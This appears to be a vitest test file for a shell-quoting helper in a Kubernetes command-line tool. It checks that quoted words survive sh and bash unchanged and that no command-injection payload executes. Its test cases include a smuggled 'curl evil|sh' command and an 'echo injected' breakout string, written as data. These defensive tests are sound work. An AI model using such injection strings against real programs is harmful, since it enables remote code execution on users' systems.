import {execFileSync} from 'node:child_process'
import {readdirSync, readFileSync} from 'node:fs'
import {join} from 'node:path'
import fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import {escapeLine} from '../../src/text/escape-terminal.ts'
import {scriptWord, shellWord} from '../../src/text/shell-word.ts'
import {oddText} from '../support/odd.ts'

const words = fc.sample(oddText, {numRuns: 300, seed: 1}).filter(word => !word.includes('\0') && word.isWellFormed())

/** What a shell passes to a program for each word. */
function readBy(shell: string, list: readonly string[], quote = shellWord): string[] {
  const script = list.map(word => `printf '%s\\0' ${quote(word)}`).join('\n')
  return execFileSync(shell, ['-c', script], {encoding: 'utf8'}).split('\0').slice(0, -1)
}

test('scriptWord: any shell gives every word back', () => expect(readBy('sh', words, scriptWord)).toEqual(words))

describe('shellWord', () => {
  test('bash gives every word back', () => expect(readBy('bash', words)).toEqual(words))

  test('any shell reads one word, and gives it back if it has no control characters', () => {
    expect(readBy('sh', words)).toHaveLength(words.length)
    const plain = words.filter(word => escapeLine(word) === word)
    expect(readBy('sh', plain)).toEqual(plain)
  })

  test.each([
    ['a-b_c/d:e=f,g@h', 'a-b_c/d:e=f,g@h'],
    ['', "''"],
    ['=a', "'=a'"],
    ['m;curl evil|sh #', "'m;curl evil|sh #'"],
    ["it's", "'it'\\''s'"],
    ["\u001b[2J'\\", "$'\\033[2J\\047\\134'"],
    ['a\nb\u202e', "$'a\\012b\\342\\200\\256'"],
  ])('%j is %s', (word, expected) => expect(shellWord(word)).toBe(expected))

  test("a shell without the form $'…' runs nothing", () => {
    const word = "\u0001'; echo injected; '"
    expect(execFileSync('sh', ['-c', `printf '%s' ${shellWord(word)}`], {encoding: 'utf8'})).not.toMatch(/^injected/m)
  })
})

describe('commands in messages and hints', () => {
  const root = new URL('../../src/', import.meta.url).pathname
  const lines = readdirSync(root, {recursive: true, encoding: 'utf8'})
    .filter(file => file.endsWith('.ts'))
    .flatMap(file =>
      readFileSync(join(root, file), 'utf8')
        .split('\n')
        .map((line, at) => ({where: `${file}:${at + 1}`, line})),
    )
  const linesWith = (pattern: RegExp) =>
    lines.filter(({line}) => pattern.test(line) && /kubectl|istioctl|helm /.test(line)).map(({where}) => where)

  test('no value is quoted by hand', () => expect(linesWith(/['"]\$\{[^}]*\}['"]/)).toEqual([]))

  test('contexts, sets and labels are quoted by shellWord', () =>
    expect(
      linesWith(/(?:--contexts?|--set|--from|--cluster-name|label [a-z]+ \S+) \$\{(?!shellWord|\w+\.map\(shellWord\))/),
    ).toEqual([]))
})
